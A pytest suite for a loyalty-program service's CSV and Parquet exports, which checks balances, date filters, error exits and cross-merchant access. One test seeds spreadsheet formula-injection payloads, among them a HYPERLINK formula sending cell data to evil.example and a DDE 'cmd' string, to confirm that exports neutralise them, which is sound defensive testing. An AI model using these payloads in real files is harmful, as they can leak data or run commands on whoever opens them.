"""``patron export members|ledger|events`` and the API's CSV downloads: one program's story,
exported and checked against the API's balances."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from typer.testing import CliRunner

from patron.api.app import create_app
from patron.cli.exports import app
from patron.config import Settings
from patron.services import exports
from patron.services.merchants import create_api_key
from tests.conftest import Api, purchase

ACCOUNTS = ("available", "pending", "reserved", "debt")


class Story:
    """Three members (one with a comma and an accent in the name), purchases, a reserved reward,
    an adjustment, and a refund of points already spent (so there is debt)."""

    def __init__(self, api: Api) -> None:
        self.api = api
        self.program = api.program()
        self.ann = api.member(self.program, external_id="ann", email="ann@example.com", name="Ann, Zoë")
        self.bob = api.member(self.program, external_id="bob", phone="+14155550101")
        self.cy = api.member(self.program, email="cy@example.com")
        coffee = [{"id": "1", "quantity": 1, "unit_price": 10000, "category": "coffee"}]  # 200 points
        api.event(purchase(self.ann, "p-ann-1", coffee, occurred_at="2026-03-01T10:00:00Z"))
        api.event(purchase(self.bob, "p-bob-1", coffee, occurred_at="2026-03-02T10:00:00Z"))
        api.event(
            purchase(
                self.ann,
                "p-ann-2",
                [{"id": "1", "quantity": 1, "unit_price": 2500}],
                occurred_at="2026-03-03T10:00:00Z",
                location_id="downtown",
            )
        )
        r = api.post(f"/v1/members/{self.bob}/redemptions", {"reward_id": "free-coffee"})
        assert r.status_code == 201, r.text
        r = api.post(f"/v1/members/{self.cy}/adjustments", {"points": 40, "reason": "welcome, by hand"})
        assert r.status_code == 201, r.text
        refund = {
            "id": "r-bob-1",
            "type": "refund",
            "member_id": self.bob,
            "refers_to": "p-bob-1",
            "occurred_at": "2026-03-05T10:00:00Z",
            "items": [{"id": "1", "quantity": 1}],
        }
        api.event(refund)

    def members(self) -> list[str]:
        return [self.ann, self.bob, self.cy]


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def header(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as f:
        return next(csv.reader(f))


class Cli:
    def __init__(self, db_url: str, merchant: str) -> None:
        self.env = {"PATRON_DATABASE_URL": db_url, "PATRON_MERCHANT": merchant, "COLUMNS": "200"}

    def run(self, *args: str) -> Any:
        return CliRunner().invoke(app, list(args), env=self.env)


@pytest.fixture(scope="module")
def export_client(engine: Engine, db_url: str) -> Any:
    """An app of its own for this module."""
    application = create_app(Settings(database_url=db_url), engine=engine)
    with TestClient(application, raise_server_exceptions=False) as client:
        yield client


@pytest.fixture
def story(api: Api, export_client: TestClient) -> Story:
    return Story(Api(export_client, api.merchant_id, api.key))


@pytest.fixture
def exporter(other_api: Api, export_client: TestClient) -> Api:
    """The other merchant, on the app with the export routes."""
    return Api(export_client, other_api.merchant_id, other_api.key)


@pytest.fixture
def cli(api: Api, db_url: str) -> Cli:
    return Cli(db_url, api.merchant_id)


def test_members_csv_has_the_apis_balances(story: Story, cli: Cli, tmp_path: Path) -> None:
    file = tmp_path / "members.csv"
    result = cli.run("members", str(file), "--program", story.program)
    assert result.exit_code == 0, result.output
    assert f"wrote 3 members rows to {file}" in result.stdout
    assert header(file) == list(exports.COLUMNS["members"])
    rows = {r["id"]: r for r in read(file)}
    assert set(rows) == set(story.members())
    for member_id, row in rows.items():
        points = story.api.points(member_id)
        assert {k: int(row[k]) for k in exports.COLUMNS["members"][8:]} == {
            k: points[k] for k in exports.COLUMNS["members"][8:]
        }
    ann = rows[story.ann]
    assert (ann["external_id"], ann["email"], ann["name"], ann["status"]) == (
        "ann",
        "ann@example.com",
        "Ann, Zoë",
        "active",
    )
    assert rows[story.cy]["external_id"] == "" and rows[story.bob]["phone"] == "+14155550101"
    assert rows[story.bob]["debt"] != "0" and rows[story.bob]["reserved"] == "100"
    assert ann["enrolled_at"].endswith("+00:00")  # RFC 3339 with an offset


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    api: Api, cli: Cli, tmp_path: Path
) -> None:
    program = api.program()
    sly = api.member(program, external_id="=1+2", name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    api.member(program, external_id="@SUM(A1)", phone="+14155550102", name="-2+3")
    r = api.post(f"/v1/members/{sly}/adjustments", {"points": 5, "reason": "=cmd|' /C calc'!A0"})
    assert r.status_code == 201
    api.post(f"/v1/members/{sly}/adjustments", {"points": -5, "reason": "+taken back"})
    assert cli.run("members", str(tmp_path / "m.csv"), "--program", program).exit_code == 0
    rows = {r["phone"]: r for r in read(tmp_path / "m.csv")}
    assert rows[""]["external_id"] == "'=1+2" and rows[""]["name"].startswith("'=HYPERLINK(")
    assert rows["+14155550102"]["external_id"] == "'@SUM(A1)" and rows["+14155550102"]["name"] == "'-2+3"
    assert cli.run("ledger", str(tmp_path / "l.csv"), "--program", program).exit_code == 0
    ledger = read(tmp_path / "l.csv")
    assert {r["reason"] for r in ledger} == {"'=cmd|' /C calc'!A0", "'+taken back"}
    assert sorted(int(r["points"]) for r in ledger if r["account"] == "available") == [-5, 5]  # numbers stay


def test_ledger_points_sum_to_the_balances(story: Story, cli: Cli, tmp_path: Path) -> None:
    file = tmp_path / "ledger.csv"
    result = cli.run("ledger", str(file), "--program", story.program)
    assert result.exit_code == 0, result.output
    assert header(file) == list(exports.COLUMNS["ledger"])
    rows = read(file)
    assert f"wrote {len(rows):,} ledger rows" in result.stdout
    assert {r["account"] for r in rows} <= set(ACCOUNTS)
    assert {r["kind"] for r in rows} >= {"earn", "adjustment", "reservation", "refund"}
    sums: dict[str, dict[str, int]] = defaultdict(lambda: dict.fromkeys(ACCOUNTS, 0))
    for r in rows:
        sums[r["member_id"]][r["account"]] += int(r["points"])
    for member_id in story.members():
        points = story.api.points(member_id)
        assert sums[member_id] == {a: points[a] for a in ACCOUNTS}, member_id
    assert [(r["occurred_at"], r["id"]) for r in rows] == sorted((r["occurred_at"], r["id"]) for r in rows)
    earn = next(r for r in rows if r["event_id"] == "p-ann-1" and r["account"] == "available")
    assert (earn["external_id"], earn["points"], earn["program_version"]) == ("ann", "200", "1")
    assert earn["lot_id"] and earn["occurred_at"] == "2026-03-01T10:00:00+00:00"
    adjustment = next(r for r in rows if r["kind"] == "adjustment")
    assert (adjustment["reason"], adjustment["event_id"]) == ("welcome, by hand", "")

    march = tmp_path / "march.csv"
    result = cli.run(
        "ledger", str(march), "--program", story.program, "--since", "2026-03-02", "--until", "2026-03-04"
    )
    assert result.exit_code == 0, result.output
    assert {r["event_id"] for r in read(march)} == {"p-bob-1", "p-ann-2"}


def test_events_csv_lists_refunds_with_what_they_refer_to(story: Story, cli: Cli, tmp_path: Path) -> None:
    file = tmp_path / "events.csv"
    result = cli.run("events", str(file), "--program", story.program, "--json")
    assert result.exit_code == 0, result.output
    assert '"rows": 4' in result.stdout
    assert header(file) == list(exports.COLUMNS["events"])
    rows = read(file)
    assert [r["id"] for r in rows] == ["p-ann-1", "p-bob-1", "p-ann-2", "r-bob-1"]
    refund = rows[-1]
    assert (refund["type"], refund["refers_to"], refund["member_id"]) == ("refund", "p-bob-1", story.bob)
    assert int(refund["points"]) == -200
    assert rows[0]["refers_to"] == "" and rows[2]["location_id"] == "downtown"
    assert rows[0]["occurred_at"] == "2026-03-01T10:00:00+00:00" and rows[0]["received_at"].endswith("+00:00")

    result = cli.run("events", str(file), "--program", story.program, "--since", "2026-03-04T00:00:00+01:00")
    assert result.exit_code == 0, result.output
    assert [r["id"] for r in read(file)] == ["r-bob-1"]


def test_api_downloads_are_the_same_files(story: Story, cli: Cli, tmp_path: Path) -> None:
    for kind in exports.KINDS:
        file = tmp_path / f"{kind}.csv"
        assert cli.run(kind, str(file), "--program", story.program).exit_code == 0
        r = story.api.get(f"/v1/programs/{story.program}/exports/{kind}.csv")
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("text/csv")
        assert "attachment" in r.headers["content-disposition"]
        assert r.content == file.read_bytes()
        assert parse(r.text) == read(file)
    r = story.api.get(
        f"/v1/programs/{story.program}/exports/events.csv", params={"since": "2026-03-05T00:00:00Z"}
    )
    assert r.status_code == 200 and [row["id"] for row in parse(r.text)] == ["r-bob-1"]


def test_an_empty_program_exports_just_the_header(
    api: Api, export_client: TestClient, cli: Cli, tmp_path: Path
) -> None:
    api = Api(export_client, api.merchant_id, api.key)
    program = api.program()
    file = tmp_path / "members.csv"
    result = cli.run("members", str(file), "--program", program)
    assert result.exit_code == 0, result.output
    assert "wrote 0 members rows" in result.stdout
    assert header(file) == list(exports.COLUMNS["members"]) and read(file) == []
    r = api.get(f"/v1/programs/{program}/exports/ledger.csv")
    assert r.status_code == 200 and r.text.strip() == ",".join(exports.COLUMNS["ledger"])


def test_unknown_program_or_unwritable_file_exits_1(api: Api, cli: Cli, tmp_path: Path) -> None:
    file = tmp_path / "members.csv"
    result = cli.run("members", str(file), "--program", "prg_nope")
    assert result.exit_code == 1
    assert "program prg_nope not found" in result.output
    assert not file.exists()

    program = api.program()
    missing = tmp_path / "no-such-dir" / "ledger.csv"
    result = cli.run("ledger", str(missing), "--program", program)
    assert result.exit_code == 1
    assert "cannot write" in result.output

    result = cli.run("events", str(file), "--program", program, "--since", "yesterday")
    assert result.exit_code == 1 and "not an RFC 3339 time" in result.output


def test_another_merchants_program_is_404_and_reading_needs_admin(
    story: Story, exporter: Api, engine: Engine
) -> None:
    for kind in exports.KINDS:
        r = exporter.get(f"/v1/programs/{story.program}/exports/{kind}.csv")
        assert r.status_code == 404, r.text
        assert r.headers["content-type"].startswith("application/problem+json")
    with engine.begin() as conn:
        _, key = create_api_key(conn, merchant_id=story.api.merchant_id, name="pos", scopes=["read", "write"])
    r = story.api.client.get(
        f"/v1/programs/{story.program}/exports/members.csv", headers={"Authorization": f"Bearer {key}"}
    )
    assert r.status_code == 403, r.text
    r = story.api.get(
        f"/v1/programs/{story.program}/exports/ledger.csv",
        params={"since": "2026-03-05T00:00:00Z", "until": "2026-03-01T00:00:00Z"},
    )
    assert r.status_code in (400, 422), r.text


def test_parquet_files_hold_the_same_rows_typed(story: Story, cli: Cli, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    for kind in ("members", "ledger", "events"):
        csv_file, parquet_file = tmp_path / f"{kind}.csv", tmp_path / f"{kind}.parquet"
        assert cli.run(kind, str(csv_file), "--program", story.program).exit_code == 0
        result = cli.run(kind, str(parquet_file), "--program", story.program)
        assert result.exit_code == 0, result.output
        table = pq.read_table(parquet_file)
        assert table.column_names == list(exports.COLUMNS[kind])
        from_csv = read(csv_file)
        assert table.num_rows == len(from_csv) and f"wrote {len(from_csv):,} {kind} rows" in result.stdout
        if kind == "ledger":
            assert table.schema.field("points").type == "int64"
            sums: dict[tuple[str, str], int] = defaultdict(int)
            for row in table.to_pylist():
                sums[(row["member_id"], row["account"])] += row["points"]
            for member_id in story.members():
                points = story.api.points(member_id)
                assert {a: sums[(member_id, a)] for a in ACCOUNTS} == {a: points[a] for a in ACCOUNTS}
        if kind == "members":
            ann = next(r for r in table.to_pylist() if r["id"] == story.ann)
            assert ann["enrolled_at"].tzinfo is not None and ann["name"] == "Ann, Zoë"
